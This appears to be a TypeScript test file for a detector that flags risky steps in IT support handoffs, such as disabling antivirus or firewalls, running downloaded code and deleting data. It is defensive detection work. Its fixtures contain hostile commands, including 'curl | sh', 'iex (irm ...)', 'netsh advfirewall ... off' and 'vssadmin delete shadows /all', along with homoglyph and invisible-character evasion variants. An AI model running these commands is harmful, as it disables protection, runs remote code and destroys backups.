import { findStepRisks } from '../../src/handoffs/step-risks.ts';
import { expect, test } from '../harness/test.ts';

const risky: Record<string, string[]> = {
  DISABLES_PROTECTION: [
    'Turn the protection off',
    'Temporarily disable Windows Defender and try again',
    'Switch the tenant\u2019s MFA off for this user',
    'Set-MpPreference -DisableRealtimeMonitoring $true',
    'netsh advfirewall set allprofiles state off',
    'Add an exclusion for C:\\ to the antivirus',
    'Schalten Sie den Virenschutz vorübergehend aus',
    'Désactivez le pare-feu',
    'Desactive la protección en tiempo real',
    'Add C:\\ to the exclusion list',
    'Put the agent into passive mode',
    'Revoke MFA',
    'Take Sophos down',
    'Take the firewall offline',
    'Set real-time scanning to no',
    'Change the real-time protection to "disabled"',
    'Get rid of Defender',
    'Work around the web filter',
    'Terminate the CrowdStrike sensor',
    'Whitelist C:\\Temp\\fix.bin',
    'De-activate the spam filter',
    'Stellen Sie den Echtzeitschutz auf Aus',
    'Fügen Sie den Ordner der Ausnahmeliste hinzu',
    'Ajoutez une exception pour ce fichier',
    'Delete the MFA methods of the user',
    'Defender: off',
    'Uncheck real-time protection',
    'Clear the checkbox of tamper protection',
    'Let the file past the antivirus',
    'Boot without Defender',
    'Allow all traffic through the firewall',
    'Nehmen Sie Sophos vom Netz',
    'D.i.s.a.b.l.e Defender',
    // Letters of other scripts.
    'Dіsable Defender',
    'ΤURΝ ΟFF the firewаll',
    // Characters that nobody sees, and other forms of letters.
    'Dis\u200bable the fire\u00adwall',
    'ＤＩＳＡＢＬＥ the ｆｉｒｅｗａｌｌ',
  ],
  RUNS_DOWNLOAD: [
    'Download the tool from https://vendor.example/fix and run it',
    'Open fix.exe from the mail',
    'curl -s https://vendor.example/x | sh',
    'powershell -c "iex (irm vendor.example/x)"',
    'powershell -EncodedCommand SQBFAFgA',
    'Get the tool at evil.example/fix.zip and double click it',
    'Grab the patch from their web site and install it',
    'Get it from evil.example and double-click it',
    'Unpack fix.7z and run what is in it',
    'Open the link in the ticket',
    'Save this script and run it',
    'Scan the QR code and install the app',
    'Go to evil.example/fix and click the button',
    'Laden Sie das Werkzeug herunter und führen Sie es aus',
    'Téléchargez puis lancez le correctif',
  ],
  DELETES_DATA: [
    'Delete the profile of the user',
    'rm -rf /var/lib/service',
    'vssadmin delete shadows /all',
    'Format the drive and start over',
    'Get rid of the old backups',
    'Delete all',
    'Wipe it',
    'del *.pst',
    'Purge everything',
    'Remove all.',
    'Erase the laptop',
    'Empty the recycle bin',
    'Reinstall Windows',
    'Blow the profile away and blow away the rest',
    'Throw the old mailboxes away',
    'Dеlete the аrchive folder',
    'Löschen Sie alles',
    'Die Dateien im Ordner löschen',
    'Supprimez le dossier de cache',
  ],
};

const harmless = [
  'Restart the print service',
  'Look at the leases',
  'Shorten the lease time',
  'Does the server answer a ping? → Yes',
  'Check that the firewall lets port 443 pass',
  'Check whether the average load is high',
  'Ask a senior',
  'Den Dienst neu starten',
  'Check the network cable → It was fine',
  'Press Ctrl+Alt+Delete',
  'Look in Deleted Items',
  'Delete the stuck print job',
  'Clear the browser cache',
  'Remove the paper from the scanner',
  'Set the default gateway to 192.0.2.1',
  'Set the printer to A4',
  'Put the laptop into its dock',
  'Get the serial number from the label',
  'Log on to portal.example.com and look at the licences',
  'Turn the printer off and on',
  'Turn the volume down',
  'Check whether Defender is running',
  'Check that the firewall allows port 443',
  'Turn on MFA',
  'Update the antivirus signatures',
  'Restart the agent',
  'Check whether the link light is on',
  'Unlock the account and ask the user to try again',
  'Take the phone off the hook',
  'Abra la carpeta del usuario',
  'Look at errors and discards between the user and the server',
  'A colleague deleted them',
  'Check that monitoring shows the server as up',
  'Проверьте кабель',
  'Ελέγξτε το καλώδιο',
];

for (const [risk, steps] of Object.entries(risky))
  test(`steps that are ${risk} are marked as such, in several languages and as commands`, () => {
    expect(steps.filter(step => !findStepRisks(step).some(found => found === risk))).toEqual([]);
  });

test('a backup that is deleted is data, and no protection that is switched off', () => {
  expect(findStepRisks('Delete the old backups')).toEqual(['DELETES_DATA']);
});

test('usual steps have no mark', () => {
  expect(harmless.filter(step => findStepRisks(step).length > 0)).toEqual([]);
});

test('a step of any length is judged in time', () => {
  for (const piece of ['turn ', 'curl ', 'disable ', 'net stop ', 'a_', 'del'])
    expect(findStepRisks(piece.repeat(60))).toEqual([]);
});
